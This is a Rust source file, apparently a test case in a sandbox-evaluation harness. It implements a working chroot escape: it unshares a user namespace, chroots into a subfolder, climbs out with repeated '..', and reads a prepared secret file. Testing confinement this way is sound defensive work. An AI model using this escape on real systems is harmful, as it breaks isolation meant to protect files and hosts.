use std::io;

use crate::attack::{Attack, Control, Judge};
use crate::attacks::raw::{self, c, sys};
use crate::needs;
use crate::stage::Stage;

pub(super) const ROW: Attack = Attack {
    id: "C5",
    name: "second-chroot-climb",
    what: "changes root a second time into a subfolder, so that the first root is forgotten, and climbs out",
    prepare,
    attack,
    control: Control::Chroot,
    needs: &[&needs::USERNS],
    ..Attack::ROW
};

fn prepare(stage: &mut Stage) -> io::Result<Judge> {
    let (path, judge) = stage.secret("secret")?;
    stage.path_arg(&path);
    Ok(judge)
}

fn attack(args: &[String]) -> io::Result<()> {
    // The weak box leaves the current folder outside; this attack does not need that.
    std::env::set_current_dir("/")?;
    if sys!(SYS_chroot, &c("/usr")).is_err() {
        // A user namespace of its own brings the right to change root.
        sys!(SYS_unshare, libc::CLONE_NEWUSER)?;
        sys!(SYS_chroot, &c("/usr"))?;
    }
    for _ in 0..64 {
        std::env::set_current_dir("..")?;
    }
    sys!(SYS_chroot, &c("."))?;
    raw::show(raw::openat(libc::AT_FDCWD, raw::text(args, 0)?, libc::O_RDONLY)?)
}
